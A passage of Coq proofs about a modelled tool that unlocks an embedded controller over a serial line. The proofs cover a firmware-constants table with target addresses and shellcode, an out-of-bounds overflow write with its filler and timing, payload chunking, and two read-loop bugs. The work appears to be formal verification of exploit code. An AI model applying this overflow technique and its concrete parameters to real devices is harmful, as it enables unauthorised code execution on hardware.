  cbn [commands_sent oob_values omap list_omap oob_value app].
  rewrite !app_nil_r, <- !app_assoc. split; reflexivity.
Qed.

Lemma autorun_unlock_sequence_witness :
  exists r s' payload,
    autorun emc_vulnerable Session_init = Some (r, s') /\
    is_success r = true /\
    craft_payload (fw_consts_ s') = Some payload /\
    commands_sent (events s')
      = [lit "getserialno"; lit "version"; lit "puareq1 0"]
          ++ puareq2_cmds 0 (chunks_of (length payload) payload)
          ++ [lit "version"; hax_cmd_name_; lit "getserialno"] /\
    oob_values (events s')
      = prewrites (target_of (ucmd_ua_buf_addr (fw_consts_ s')))
          ++ [target_of (ucmd_ua_buf_addr (fw_consts_ s'))].
Proof.
  assert (Hr : match autorun emc_vulnerable Session_init with
               | Some (r, _) => is_success r = true
               | None => False
               end) by (vm_compute; reflexivity).
  assert (Hr0 : match is_unlocked emc_vulnerable
                        (log Session_init [EvResetSample; EvRxClear]) with
                | Some (r0, _) => is_success r0 = false
                | None => False
                end) by (vm_compute; reflexivity).
  destruct (autorun emc_vulnerable Session_init) as [[r s']|] eqn:Hrun;
    [|destruct Hr].
  destruct (is_unlocked emc_vulnerable
              (log Session_init [EvResetSample; EvRxClear]))
    as [[r0 s0]|] eqn:Hprobe; [|destruct Hr0].
  destruct (autorun_unlock_sequence emc_vulnerable Session_init s' s0 r r0
              Hrun Hr Hprobe Hr0)
    as (payload & _ & _ & Hcraft & _ & Hsent & Hoob).
  exists r, s', payload. split; [reflexivity|]. split; [exact Hr|].
  split; [exact Hcraft|]. split; [exact Hsent|exact Hoob].
Defined.

(** ** Constants set by the host *)

Lemma int_from_hex_bound (size_of_T : nat) (s : str) (offset : nat) (v : Z) :
  int_from_hex size_of_T s offset = Some v ->
  0 <= v < 2 ^ (8 * Z.of_nat size_of_T).
Proof.
  unfold int_from_hex.
  destruct (length _ =? 2 * size_of_T)%nat eqn:Hlen; [|discriminate].
  apply Nat.eqb_eq in Hlen. intros Hv.
  apply hex_value_bound in Hv; [|lia]. rewrite Hlen in Hv.
  replace (2 ^ (8 * Z.of_nat size_of_T))
    with (16 ^ Z.of_nat (2 * size_of_T)).
  - lia.
  - change 16 with (2 ^ 4). rewrite <- Z.pow_mul_r by lia. f_equal. lia.
Qed.

Lemma replace_dots_no_dot (version : str) : chr_dot ∉ replace_dots version.
Proof.
  unfold replace_dots. intros Hin.
  apply list_elem_of_fmap in Hin as (c & Hc & _).
  destruct (chr_eqb c chr_dot) eqn:E; [discriminate|].
  apply chr_eqb_neq in E. congruence.
Qed.

(** A resolution that starts without valid constants and succeeds has
    read a version the table knows and loaded the table's entry. *)
Lemma resolve_constants_loads (emc : Emc) (s s' : Session) (r : Result) :
  fw_consts_valid_ s = false ->
  resolve_constants emc s = Some (r, s') ->
  is_success r = true ->
  exists version_str,
    emc_reply emc (events s') = Some (true, StatusCode.kSuccess, version_str) /\
    fw_constants_map s !! version_str = Some (fw_consts_ s').
Proof.
  intros Hvalid. unfold resolve_constants. unfold bind at 1.
  unfold get_session. rewrite Hvalid. unfold version. unfold bind at 1.
  destruct (cmd_send_recv emc _ 10000 s) as [[r1 s1]|] eqn:Hsend;
    [|discriminate].
  destruct (is_success r1) eqn:Hr1; cbn [negb].
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  destruct (cmd_send_recv_success emc _ _ _ _ _ Hsend Hr1) as [Hs1 Hreply].
  destruct (fw_constants_map s !! response_ r1) as [fw|] eqn:Hlookup.
  2:{ unfold ret. intros Hrun Hr.
      apply (inj Some), pair_equal_spec in Hrun as [<- _]. discriminate. }
  unfold bind, set_fw_consts_, ret. intros Hrun _.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  cbn [events fw_consts_]. exists (response_ r1). split; assumption.
Qed.

(** X18: [set_fw_consts] waits on nothing and sends nothing. It accepts
    the command exactly when it splits into four parts of which the
    third reads as a 32-bit address and the fourth as hexadecimal bytes;
    a rejected command leaves the session exactly as it was. An accepted
    one stores that address and those bytes under the second part with
    its dots turned into spaces, replacing an entry already there and
    leaving the others alone, and it clears and invalidates the cache: the
    next [resolve_constants] that succeeds on reading this version from
    the controller loads exactly the address and bytes of the command,
    whatever was cached or tabled before. *)
Theorem set_fw_consts_takes_effect
    (split_string : str -> ascii -> list str) (cmd : str) (s : Session) :
  let parts := split_string cmd chr_space in
  let version := replace_dots (nth 1 parts []) in
  let accepted :=
    match int_from_hex 4 (nth 2 parts []) 0, hex2buf (nth 3 parts []) with
    | Some addr, Some shellcode =>
        if (length parts =? 4)%nat then Some (mkFwConstants addr shellcode)
        else None
    | _, _ => None
    end in
  match accepted with
  | None =>
      set_fw_consts split_string cmd s
        = Some (new_ng StatusCode.kFwConstsInvalid [], s)
  | Some fw =>
      exists s1,
        set_fw_consts split_string cmd s = Some (new_success [], s1) /\
        (chr_dot ∉ version) /\
        fw_constants_map s1 = <[version := fw]> (fw_constants_map s) /\
        fw_constants_map s1 !! version = Some fw /\
        (forall other, other <> version ->
           fw_constants_map s1 !! other = fw_constants_map s !! other) /\
        fw_consts_valid_ s1 = false /\
        fw_consts_ s1 = mkFwConstants 0 [] /\
        events s1 = events s /\
        chip_consts_ s1 = chip_consts_ s /\
        forall emc r2 s2,
          resolve_constants emc s1 = Some (r2, s2) ->
          is_success r2 = true ->
          emc_reply emc (events s2)
            = Some (true, StatusCode.kSuccess, version) ->
          fw_consts_ s2 = fw
  end.
Proof.
  intros parts version accepted. subst accepted. unfold set_fw_consts.
  fold parts.
  destruct (length parts =? 4)%nat eqn:Hparts; cbn [negb].
  2:{ destruct (int_from_hex 4 _ 0); [|reflexivity].
      destruct (hex2buf _); reflexivity. }
  destruct (int_from_hex 4 (nth 2 parts []) 0) as [addr|]; [|reflexivity].
  destruct (hex2buf (nth 3 parts [])) as [shellcode|]; [|reflexivity].
  fold version.
  eexists. split; [reflexivity|].
  cbn [fw_constants_map fw_consts_valid_ fw_consts_ events chip_consts_].
  split; [apply replace_dots_no_dot|]. split; [reflexivity|].
  split; [apply lookup_insert_eq|].
  split; [intros other Hne; apply lookup_insert_ne; congruence|].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  split; [reflexivity|].
  intros emc r2 s2 Hres Hr2 Hreply.
  destruct (fun H => resolve_constants_loads emc _ _ _ H Hres Hr2)
    as (v & Hreply' & Hlookup); [reflexivity|].
  rewrite Hreply in Hreply'. injection Hreply' as <-.
  cbn [fw_constants_map] in Hlookup.
  rewrite lookup_insert_eq in Hlookup. congruence.
Qed.

(** A command that replaces a built-in entry: the table then holds the
    address and the bytes of the command under that version. *)
Lemma set_fw_consts_takes_effect_witness :
  exists s1,
    set_fw_consts (fun s sep => split_at sep s)
                  (lit "picofwconst E1E.0001.0000.0004.13D0 00414243 00B5")
                  Session_init
      = Some (new_success [], s1) /\
    fw_consts_valid_ s1 = false /\
    fw_constants_map s1 !! lit "E1E 0001 0000 0004 13D0"
      = Some (mkFwConstants 0x414243 (bytes [0x00; 0xb5])).
Proof.
  pose proof (set_fw_consts_takes_effect
                (fun s sep => split_at sep s)
                (lit "picofwconst E1E.0001.0000.0004.13D0 00414243 00B5")
                Session_init) as H.
  cbv zeta in H.
  change (split_at chr_space
            (lit "picofwconst E1E.0001.0000.0004.13D0 00414243 00B5"))
    with [lit "picofwconst"; lit "E1E.0001.0000.0004.13D0"; lit "00414243";
          lit "00B5"] in H.
  change (int_from_hex 4 _ 0) with (Some 0x414243) in H.
  change (hex2buf _) with (Some (bytes [0x00; 0xb5])) in H.
  cbn [length Nat.eqb nth] in H.
  change (replace_dots (lit "E1E.0001.0000.0004.13D0"))
    with (lit "E1E 0001 0000 0004 13D0") in H.
  destruct H as (s1 & Hrun & _ & _ & Hlookup & _ & Hvalid & _).
  exists s1. split; [exact Hrun|]. split; [exact Hvalid|exact Hlookup].
Defined.

(** X19: [set_chip_consts] always returns and sends nothing. A rejected
    command leaves the session exactly as it was; an accepted one changes
    the chip constants and nothing else. Constants that fit their types
    (an 8-bit multiplier, 16-bit delays) still do afterwards, so the
    bound is an invariant of the session. *)
Theorem set_chip_consts_in_range
    (split_string : str -> ascii -> list str) (cmd : str) (s : Session) :
  chip_consts_in_range (chip_consts_ s) ->
  exists r s1,
    set_chip_consts split_string cmd s = Some (r, s1) /\
    chip_consts_in_range (chip_consts_ s1) /\
    events s1 = events s /\
    fw_consts_valid_ s1 = fw_consts_valid_ s /\
    fw_consts_ s1 = fw_consts_ s /\
    fw_constants_map s1 = fw_constants_map s /\
    (r = new_success [] \/
     (r = new_ng StatusCode.kChipConstsInvalid [] /\ s1 = s)).
Proof.
  intros Hrange. unfold set_chip_consts.
  assert (Hng : exists r s1,
            ret (new_ng StatusCode.kChipConstsInvalid []) s = Some (r, s1) /\
            chip_consts_in_range (chip_consts_ s1) /\
            events s1 = events s /\
            fw_consts_valid_ s1 = fw_consts_valid_ s /\
            fw_consts_ s1 = fw_consts_ s /\
            fw_constants_map s1 = fw_constants_map s /\
            (r = new_success [] \/
             (r = new_ng StatusCode.kChipConstsInvalid [] /\ s1 = s))).
  { exists (new_ng StatusCode.kChipConstsInvalid []), s.
    split; [reflexivity|]. split; [exact Hrange|].
    repeat (split; [reflexivity|]). right. split; reflexivity. }
  assert (Hok : forall cc, chip_consts_in_range cc ->
            exists r s1,
              (set_chip_consts_ cc ;;; ret (new_success [])) s = Some (r, s1) /\
              chip_consts_in_range (chip_consts_ s1) /\
              events s1 = events s /\
              fw_consts_valid_ s1 = fw_consts_valid_ s /\
              fw_consts_ s1 = fw_consts_ s /\
              fw_constants_map s1 = fw_constants_map s /\
              (r = new_success [] \/
               (r = new_ng StatusCode.kChipConstsInvalid [] /\ s1 = s))).
  { intros cc Hcc. eexists (new_success []), _. split; [reflexivity|].
    cbn [chip_consts_ events fw_consts_valid_ fw_consts_ fw_constants_map].
    split; [exact Hcc|]. repeat (split; [reflexivity|]). left. reflexivity. }
  destruct (length (split_string cmd chr_space) =? 2)%nat.
  { destruct (str_eqb _ (lit "salina"));
      [apply Hok; unfold chip_consts_in_range; simpl; lia|].
    destruct (str_eqb _ (lit "salina2"));
      [apply Hok; unfold chip_consts_in_range; simpl; lia|exact Hng]. }
  destruct (length (split_string cmd chr_space) =? 4)%nat; [|exact Hng].
  destruct (int_from_hex 1 _ 0) as [f|] eqn:Hf; [|exact Hng].
  destruct (int_from_hex 2 _ 0) as [p|] eqn:Hp; [|exact Hng].
  destruct (int_from_hex 2 (nth 3 _ _) 0) as [d|] eqn:Hd; [|exact Hng].
  apply Hok. apply int_from_hex_bound in Hf, Hp, Hd.
  unfold chip_consts_in_range. cbn [filler_multiplier post_process_ms pwn_delay_us].
  change (8 * Z.of_nat 1) with 8 in Hf. change (8 * Z.of_nat 2) with 16 in Hp, Hd.
  auto.
Qed.

Lemma set_chip_consts_in_range_witness :
  exists s1,
    set_chip_consts (fun s sep => split_at sep s) (lit "picochipconst salina2")
                    (mkSession [] salina_consts_ true (fw_sized 0) ∅)
      = Some (new_success [], s1) /\
    chip_consts_in_range (chip_consts_ s1).
Proof.
  set (split := fun (s : str) (sep : ascii) => split_at sep s).
  set (s := mkSession [] salina_consts_ true (fw_sized 0) ∅).
  assert (Hrun' : match set_chip_consts split (lit "picochipconst salina2") s with
                  | Some (r, _) => r = new_success []
                  | None => False
                  end) by (vm_compute; reflexivity).
  destruct (set_chip_consts_in_range split (lit "picochipconst salina2") s)
    as (r & s1 & Hrun & Hrange & _).
  - unfold chip_consts_in_range. simpl. lia.
  - rewrite Hrun in Hrun'. subst r. exists s1. split; [exact Hrun|exact Hrange].
Defined.

(** ** The overflow write *)

Lemma lut_safe :
  forallb (fun b => negb (is_special b) && is_printable b) lut = true.
Proof. vm_compute. reflexivity. Qed.

(** X20: [write_oob] never waits on the controller: it sends a NAK, the
    filler, and the overwrite packet, with its three delays in between,
    and clears the receive buffer. With chip constants in range the
    filler is exactly [160 * filler_multiplier] bytes, its bytes cycle
    through the 62 characters of the table, and none of them is a
    backspace, CR, LF or NAK; the packet is the cursor-advance byte, the
    value, a zero and a NAK. *)
Theorem write_oob_filler (value : list u8) (s : Session) :
  chip_consts_in_range (chip_consts_ s) ->
  exists filler,
    write_oob value s
      = Some (tt, log s [ EvUartWrite [chr_NAK] true;
                          EvBusyWaitMs 10;
                          EvUartWrite filler true;
                          EvBusyWaitUs (pwn_delay_us (chip_consts_ s));
                          EvUartWrite (u8_of_Z 0xc :: value ++ [zero; chr_NAK]) true;
                          EvBusyWaitMs (post_process_ms (chip_consts_ s));
                          EvRxClear ]) /\
    Z.of_nat (length filler) = 160 * filler_multiplier (chip_consts_ s) /\
    (forall i, (i < length filler)%nat ->
               filler !! i = lut !! (i mod 62)%nat) /\
    Forall (fun b => is_special b = false /\ is_printable b = true) filler.
Proof.
  intros (Hf & _ & _). eexists. split; [rewrite write_oob_run; reflexivity|].
  assert (Hlut : length lut = 62%nat) by reflexivity.
  split; [|split].
  - rewrite length_map, length_seq. unfold u32_wrap.
    rewrite Z.mod_small by lia. lia.
  - intros i Hi. rewrite length_map, length_seq in Hi.
    rewrite list_lookup_fmap, lookup_seq_lt by exact Hi. cbn [fmap option_fmap option_map Nat.add].
    rewrite Hlut.
    destruct (lookup_lt_is_Some_2 lut (i mod 62)) as [c Hc];
      [rewrite Hlut; apply Nat.mod_upper_bound; discriminate|].
    rewrite Hc, (nth_lookup_Some _ _ zero _ Hc). reflexivity.
  - apply Forall_fmap, Forall_forall. intros i _. cbn [compose].
    pose proof lut_safe as Hsafe. rewrite forallb_forall in Hsafe.
    specialize (Hsafe (nth (i mod length lut) lut zero)).
    rewrite andb_true_iff, negb_true_iff in Hsafe. apply Hsafe.
    apply nth_In. rewrite Hlut. apply Nat.mod_upper_bound. discriminate.
Qed.

Lemma write_oob_filler_witness :
  exists filler,
    write_oob (target_of 0x1762e8) Session_init
      = Some (tt, log Session_init
                    [ EvUartWrite [chr_NAK] true;
                      EvBusyWaitMs 10;
                      EvUartWrite filler true;
                      EvBusyWaitUs 790;
                      EvUartWrite (u8_of_Z 0xc :: target_of 0x1762e8
                                     ++ [zero; chr_NAK]) true;
                      EvBusyWaitMs 200;
                      EvRxClear ]) /\
    length filler = 480%nat.
Proof.
  destruct (write_oob_filler (target_of 0x1762e8) Session_init)
    as (filler & Hrun & Hlen & _).
  - unfold chip_consts_in_range. simpl. lia.
  - exists filler. split; [exact Hrun|].
    change (filler_multiplier (chip_consts_ Session_init)) with 3 in Hlen. lia.
Defined.

(** ** The payload and the built-in constants *)

Lemma length_chunks_of (k : nat) :
  forall payload : list u8,
    length payload = (50 * k)%nat ->
    length (chunks_of (length payload) payload) = k.
Proof.
  induction k as [|k IH]; intros payload Hlen.
  - destruct payload; [reflexivity|simpl in Hlen; lia].
  - destruct payload as [|b rest] eqn:Hp; [simpl in Hlen; lia|].
    rewrite <- Hp in *. clear Hp.
    destruct (length payload) as [|n] eqn:Hn; [lia|].
    rewrite chunks_of_cons by (intros ->; discriminate).
    cbn [length]. f_equal.
    rewrite (chunks_of_enough n (length (drop 50 payload)))
      by (rewrite ?length_drop; lia).
    apply IH. rewrite length_drop. lia.
Qed.

(** X21: the size check of [craft_and_set_payload] lets through exactly
    the payloads of at most 350 bytes. A payload that passes is the
    initialised prefix, the shellcode and zero padding; its length is the
    next multiple of 50 strictly above prefix plus shellcode, so there is
    always padding, and it is delivered in that many 50-byte chunks: one
    to eight of them. *)
Theorem craft_payload_shape (fw : FwConstants) :
  let payload_len := sizeof_payload_t + Z.of_nat (length (shellcode fw)) in
  match craft_payload fw with
  | None => payload_max_len < payload_len
  | Some payload =>
      payload_len <= payload_max_len /\
      payload = payload_prefix (ucmd_ua_buf_addr fw) ++ shellcode fw
                  ++ replicate (length payload - Z.to_nat payload_len) zero /\
      Z.of_nat (length payload) = 50 * (payload_len / 50 + 1) /\
      payload_len < Z.of_nat (length payload) /\
      length (chunks_of (length payload) payload)
        = Z.to_nat (payload_len / 50 + 1) /\
      (1 <= length (chunks_of (length payload) payload) <= 8)%nat
  end.
Proof.
  intros payload_len.
  destruct (craft_payload fw) as [payload|] eqn:Hcraft.
  - destruct (craft_payload_length fw payload Hcraft) as [Hle Hlen].
    fold payload_len in Hle, Hlen.
    assert (Hpos : 0 <= payload_len) by (unfold payload_len, sizeof_payload_t; lia).
    assert (Hdiv : 0 <= payload_len / 50 <= 7).
    { split; [apply Z.div_pos; lia|].
      apply Z.div_le_upper_bound; unfold payload_max_len in Hle; lia. }
    pose proof (Z.mod_pos_bound payload_len 50 ltac:(lia)) as Hmod.
    pose proof (Z.div_mod payload_len 50 ltac:(lia)) as Hdm.
    assert (Hchunks : length (chunks_of (length payload) payload)
                      = Z.to_nat (payload_len / 50 + 1))
      by (apply length_chunks_of; lia).
    split; [exact Hle|]. split; [|split; [exact Hlen|split; [lia|split;
      [exact Hchunks|rewrite Hchunks; lia]]]].
    pose proof (craft_payload_layout fw) as Hlayout. cbv zeta in Hlayout.
    fold payload_len in Hlayout. rewrite (Hlayout Hle) in Hcraft.
    apply (inj Some) in Hcraft. rewrite <- Hcraft at 1.
    do 3 f_equal. lia.
  - unfold craft_payload in Hcraft. fold payload_len in Hcraft.
    destruct (payload_len >? payload_max_len) eqn:E.
    + rewrite Z.gtb_ltb in E. apply Z.ltb_lt in E. exact E.
    + exfalso. unfold align_up in Hcraft. simpl in Hcraft. discriminate.
Qed.

Lemma craft_payload_shape_witness :
  match craft_payload (fw_sized 322) with
  | Some payload => length (chunks_of (length payload) payload) = 8%nat
  | None => False
  end.
Proof.
  pose proof (craft_payload_shape (fw_sized 322)) as H. cbv zeta in H.
  destruct (craft_payload (fw_sized 322)) as [payload|].
  - destruct H as (_ & _ & _ & _ & Hchunks & _). rewrite Hchunks.
    vm_compute. reflexivity.
  - vm_compute in H. discriminate.
Defined.

(** X22: every entry of the built-in table of firmware constants can be
    used as it is: its payload passes the size check and makes exactly
    two chunks, and its address has no reserved byte and one printable
    byte, so that the overwrite is one pre-write and the final write. *)
Theorem builtin_constants_usable (version_str : str) (fw : FwConstants) :
  fw_constants_map_init !! version_str = Some fw ->
  fw_usable fw = true.
Proof.
  intros Hlookup. unfold fw_constants_map_init in Hlookup.
  apply elem_of_list_to_map_2 in Hlookup.
  repeat (apply elem_of_cons in Hlookup as [Hlookup|Hlookup];
          [apply pair_equal_spec in Hlookup as [_ ->]; vm_compute; reflexivity|]).
  apply elem_of_nil in Hlookup. destruct Hlookup.
Qed.

Lemma builtin_constants_usable_witness :
  exists fw,
    fw_constants_map_init !! lit "E1E 0001 0004 0002 1752" = Some fw /\
    fw_usable fw = true.
Proof.
  destruct (fw_constants_map_init !! lit "E1E 0001 0004 0002 1752")
    as [fw|] eqn:Hlookup.
  - exists fw. split; [reflexivity|].
    apply (builtin_constants_usable (lit "E1E 0001 0004 0002 1752") fw Hlookup).
  - vm_compute in Hlookup. discriminate.
Defined.

(** ** The read loops over the receive buffer *)

(** A frame read onto a string that already holds text with a non-zero
    checksum is rejected: the checksum then covers that text too. *)
Lemma validate_line_rejects_prefixed (pre text : str) :
  checksum pre <> 0 ->
  exists line',
    validate_line (pre ++ text ++ [chr_colon] ++ format_0X 2 (checksum text))
      = Some (false, line').
Proof.
  intros Hpre.
  set (line := pre ++ text ++ [chr_colon] ++ format_0X 2 (checksum text)).
  destruct (validate_line_total line) as (ret & line' & Hv).
  destruct ret; [|exists line'; exact Hv].
  exfalso. apply validate_line_accepted in Hv as (_ & h & l & Hstrip & Hsum).
  pose proof (checksum_suffix_format text) as Hfmt.
  set (h0 := hex_upper_digit ((checksum text / 16) mod 16)) in *.
  set (l0 := hex_upper_digit (checksum text mod 16)) in *.
  assert (Hline : line = (pre ++ text) ++ [chr_colon; h0; l0]).
  { unfold line. rewrite format_0X_2, <- !app_assoc. reflexivity. }
  assert (Hkeep : strip_trailing_crlf line = line).
  { rewrite Hline.
    change [chr_colon; h0; l0] with ([chr_colon; h0] ++ [l0]).
    rewrite app_assoc. apply strip_trailing_crlf_keep.
    destruct Hfmt as (hv & lv & _ & Hl & _).
    exact (hex_digit_not_crlf _ _ Hl). }
  rewrite Hkeep, Hline in Hstrip.
  apply app_inj_2 in Hstrip as [Hbody Htail]; [|reflexivity].
  injection Htail as <- <-. subst line'.
  destruct Hsum as (hv & lv & Hh & Hl & Hsum).
  destruct Hfmt as (hv0 & lv0 & Hh0 & Hl0 & Hsum0).
  rewrite Hh in Hh0. rewrite Hl in Hl0.
  injection Hh0 as <-. injection Hl0 as <-.
  assert (Happ : checksum (pre ++ text) = (checksum pre + checksum text) mod 256).
  { unfold checksum at 1. rewrite fold_left_app. fold (checksum pre).
    apply checksum_fold, checksum_range. }
  pose proof (checksum_range pre). pose proof (checksum_range text).
  rewrite Happ, <- Hsum0 in Hsum.
  destruct (Z_lt_dec (checksum pre + (16 * hv + lv)) 256) as [Hlt|Hge].
  - rewrite Z.mod_small in Hsum by lia. lia.
  - assert (Hm : (checksum pre + (16 * hv + lv)) mod 256
                 = checksum pre + (16 * hv + lv) - 256).
    { symmetry. apply (Z.mod_unique _ 256 1); lia. }
    lia.
Qed.

Section ReadLoops.
Variable k : Z.
Hypothesis Hk : 0 <= k < 32.

Local Abbreviation B := (2 ^ k).

Lemma read_line_timeout_idle (more : nat) (b : Buffer) (line : str) :
  num_newlines b = 0 ->
  UartRx.read_line_timeout B more b line = Some (false, line, b).
Proof.
  intros Hnl.
  assert (Hread : read_line B b line = Some (false, line, b)).
  { unfold read_line. rewrite Hnl. reflexivity. }
  induction more as [|more IH]; cbn [UartRx.read_line_timeout];
    rewrite Hread; [reflexivity|exact IH].
Qed.

(** Reading the first of the stored lines, framed as [cmd_frame] frames
    it, onto the string [pre]. *)
Lemma read_line_frame (b : Buffer) (text rest pre : str) :
  buffer_ok B b ->
  stored B b = cmd_frame text ++ rest ->
  chr_LF ∉ text ->
  exists b',
    buffer_ok B b' /\ stored B b' = rest /\
    read_line B b pre
      = match validate_line
                (pre ++ text ++ [chr_colon] ++ format_0X 2 (checksum text)) with
        | Some (true, line') => Some (true, line', b')
        | Some (false, _) => Some (false, [], b')
        | None => None
        end.
Proof.
  intros Hok Hstored Hno. pose proof Hok as [Hwf Hcount].
  rewrite cmd_frame_split, <- app_assoc in Hstored.
  change ([chr_LF] ++ rest) with (chr_LF :: rest) in Hstored.
  set (body := text ++ [chr_colon] ++ format_0X 2 (checksum text)) in *.
  assert (Hbody : chr_LF ∉ body) by (apply cmd_frame_body_no_newline, Hno).
  assert (Hnl : num_newlines b <> 0).
  { rewrite Hcount, Hstored, count_newlines_app, count_newlines_cons.
    pose proof (count_newlines_nonneg body).
    pose proof (count_newlines_nonneg rest).
    change (chr_eqb chr_LF chr_LF) with true. lia. }
  destruct (read_line_spec k Hk b body rest pre Hwf Hstored Hbody Hnl)
    as (b' & Hstored' & _ & _ & _ & _ & Hread).
  exists b'.
  destruct (validate_line_total (pre ++ body)) as (ret & line' & Hv).
  rewrite Hv in Hread.
  assert (Hok' : buffer_ok B b').
  { destruct ret; exact (read_line_ok k Hk _ _ _ _ _ Hok Hread). }
  split; [exact Hok'|]. split; [exact Hstored'|].
  rewrite Hv. exact Hread.
Qed.

Lemma stored_nil_idle (b : Buffer) :
  buffer_ok B b -> stored B b = [] -> num_newlines b = 0.
Proof. intros [_ Hcount] Hstored. rewrite Hcount, Hstored. reflexivity. Qed.

(** X23: [read_result] returns the first buffered line when it is an OK
    or NG line: the line is taken off the buffer, what follows it stays
    stored, and the result is the line as [from_str] reads it. *)
Theorem read_result_returns_first_reply
    (b : Buffer) (reply rest : str) (more : nat) (retries : list nat) :
  buffer_ok B b ->
  stored B b = cmd_frame reply ++ rest ->
  chr_LF ∉ reply ->
  is_ok_or_ng (from_str reply) = true ->
  exists b',
    UartRx.read_result B (more :: retries) b = Some (from_str reply, b') /\
    stored B b' = rest /\ buffer_ok B b'.
Proof.
  intros Hok Hstored Hno Hokng.
  destruct (read_line_frame b reply rest [] Hok Hstored Hno)
    as (b' & Hok' & Hstored' & Hread).
  rewrite validate_line_accepts_cmd_frame_body in Hread.
  exists b'. split; [|split; assumption].
  unfold UartRx.read_result. cbn [UartRx.read_result_loop].
  destruct more; cbn [UartRx.read_line_timeout]; rewrite Hread, Hokng;
    reflexivity.
Qed.

(** X24: [read_result] keeps one string across its reads, and [read_line]
    appends to it. So when a line that is not an OK or NG line (a
    comment, say) is buffered ahead of the reply, the reply is read onto
    the skipped text, fails its checksum and is dropped: the buffer ends
    up empty and [read_result] times out, although each of the two lines
    reads back correctly on a fresh string. The skipped text only has to
    have a checksum other than zero. *)
Theorem read_result_loses_reply_after_skipped_line
    (b : Buffer) (skipped reply : str) (more1 more2 : nat)
    (retries : list nat) :
  buffer_ok B b ->
  stored B b = cmd_frame skipped ++ cmd_frame reply ->
  chr_LF ∉ skipped ->
  chr_LF ∉ reply ->
  is_ok_or_ng (from_str skipped) = false ->
  checksum skipped <> 0 ->
  (exists b',
     UartRx.read_result B (more1 :: more2 :: retries) b
       = Some (new_timeout, b') /\
     stored B b' = []) /\
  (exists b1 b2,
     read_line B b [] = Some (true, skipped, b1) /\
     read_line B b1 [] = Some (true, reply, b2)).
Proof.
  intros Hok Hstored Hno1 Hno2 Hskip Hsum.
  destruct (read_line_frame b skipped (cmd_frame reply) [] Hok Hstored Hno1)
    as (b1 & Hok1 & Hstored1 & Hread1).
  rewrite validate_line_accepts_cmd_frame_body in Hread1.
  rewrite <- (app_nil_r (cmd_frame reply)) in Hstored1.
  split.
  - destruct (read_line_frame b1 reply [] skipped Hok1 Hstored1 Hno2)
      as (b2 & Hok2 & Hstored2 & Hread2).
    destruct (validate_line_rejects_prefixed skipped reply Hsum) as (l & Hv).
    rewrite Hv in Hread2.
    pose proof (stored_nil_idle b2 Hok2 Hstored2) as Hidle.
    exists b2. split; [|exact Hstored2].
    unfold UartRx.read_result. cbn [UartRx.read_result_loop].
    assert (H1 : UartRx.read_line_timeout B more1 b []
                 = Some (true, skipped, b1))
      by (destruct more1; cbn [UartRx.read_line_timeout]; rewrite Hread1;
          reflexivity).
    rewrite H1, Hskip.
    assert (H2 : UartRx.read_line_timeout B more2 b1 skipped
                 = Some (false, [], b2)).
    { destruct more2; cbn [UartRx.read_line_timeout]; rewrite Hread2;
        [reflexivity|]. apply read_line_timeout_idle, Hidle. }
    rewrite H2. reflexivity.
  - destruct (read_line_frame b1 reply [] [] Hok1 Hstored1 Hno2)
      as (b2 & _ & _ & Hread2).
    rewrite validate_line_accepts_cmd_frame_body in Hread2.
    exists b1, b2. split; assumption.
Qed.

(** X25: the echo wait of [cmd_send] has the same flaw. When another line
    is buffered ahead of the echo, the echo is read onto that line's
    text and dropped, and the wait reports a timeout even though the
    command was echoed byte for byte. *)
Theorem wait_echo_loses_echo_after_stale_line
    (b : Buffer) (stale cmdline : str) (more1 more2 : nat)
    (retries : list nat) :
  buffer_ok B b ->
  stored B b = cmd_frame stale ++ cmd_frame cmdline ->
  chr_LF ∉ stale ->
  chr_LF ∉ cmdline ->
  stale <> cmdline ->
  checksum stale <> 0 ->
  (exists b',
     UartRx.wait_echo B cmdline (more1 :: more2 :: retries) b
       = Some (false, b') /\
     stored B b' = []) /\
  (forall b0,
     buffer_ok B b0 -> stored B b0 = cmd_frame cmdline ->
     exists b',
       UartRx.wait_echo B cmdline (more1 :: retries) b0 = Some (true, b')).
Proof.
  intros Hok Hstored Hno1 Hno2 Hne Hsum. split.
  - destruct (read_line_frame b stale (cmd_frame cmdline) [] Hok Hstored Hno1)
      as (b1 & Hok1 & Hstored1 & Hread1).
    rewrite validate_line_accepts_cmd_frame_body in Hread1.
    rewrite <- (app_nil_r (cmd_frame cmdline)) in Hstored1.
    destruct (read_line_frame b1 cmdline [] stale Hok1 Hstored1 Hno2)
      as (b2 & Hok2 & Hstored2 & Hread2).
    destruct (validate_line_rejects_prefixed stale cmdline Hsum) as (l & Hv).
    rewrite Hv in Hread2.
    pose proof (stored_nil_idle b2 Hok2 Hstored2) as Hidle.
    exists b2. split; [|exact Hstored2].
    unfold UartRx.wait_echo. cbn [UartRx.wait_echo_loop].
    assert (H1 : UartRx.read_line_timeout B more1 b []
                 = Some (true, stale, b1))
      by (destruct more1; cbn [UartRx.read_line_timeout]; rewrite Hread1;
          reflexivity).
    rewrite H1. unfold str_eqb. rewrite bool_decide_eq_false_2 by exact Hne.
    assert (H2 : UartRx.read_line_timeout B more2 b1 stale
                 = Some (false, [], b2)).
    { destruct more2; cbn [UartRx.read_line_timeout]; rewrite Hread2;
        [reflexivity|]. apply read_line_timeout_idle, Hidle. }
    rewrite H2. reflexivity.
  - intros b0 Hok0 Hstored0.
    rewrite <- (app_nil_r (cmd_frame cmdline)) in Hstored0.
    destruct (read_line_frame b0 cmdline [] [] Hok0 Hstored0 Hno2)
      as (b' & _ & _ & Hread).
    rewrite validate_line_accepts_cmd_frame_body in Hread.
    exists b'. unfold UartRx.wait_echo. cbn [UartRx.wait_echo_loop].
    assert (H1 : UartRx.read_line_timeout B more1 b0 []
                 = Some (true, cmdline, b'))
      by (destruct more1; cbn [UartRx.read_line_timeout]; rewrite Hread;
          reflexivity).
    rewrite H1. unfold str_eqb. rewrite bool_decide_eq_true_2 by reflexivity.
    reflexivity.
Qed.

End ReadLoops.

Lemma buffer_of_ok (data : list u8) :
  Z.of_nat (length data) <= 2 ^ 10 - 1 ->
  buffer_ok (2 ^ 10) (push_all (2 ^ 10) (Buffer_init (2 ^ 10)) data) /\
  stored (2 ^ 10) (push_all (2 ^ 10) (Buffer_init (2 ^ 10)) data) = data.
Proof.
  intros Hlen.
  assert (Hinit : buffer_ok (2 ^ 10) (Buffer_init (2 ^ 10)))
